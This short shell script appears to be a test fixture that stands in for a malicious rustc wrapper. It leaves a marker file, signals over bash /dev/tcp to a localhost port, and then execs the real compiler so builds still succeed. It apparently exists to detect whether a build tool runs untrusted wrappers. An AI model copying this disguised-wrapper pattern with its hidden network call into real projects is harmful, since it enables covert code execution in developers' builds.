#!/bin/sh
# HOSTILE: the planted rustc wrapper / compiler / runner. When it runs, it leaves a marker in the directory named
# on the first line of hostile-targets.txt (written by the test) and connects to the port on the second line,
# then does its job (runs the command it wraps, or rustc) so a build through it still works.
here=$(dirname "$0")
dir=$(sed -n 1p "$here/hostile-targets.txt")
port=$(sed -n 2p "$here/hostile-targets.txt")
echo "evil.sh ran: $*" >> "$dir/marker-evil-sh"
bash -c "echo evil > /dev/tcp/127.0.0.1/$port" 2>/dev/null
case "$1" in
  */rustc|rustc) exec "$@" ;;
  -*|"") exec rustc "$@" ;;
  *) exec "$@" ;;
esac
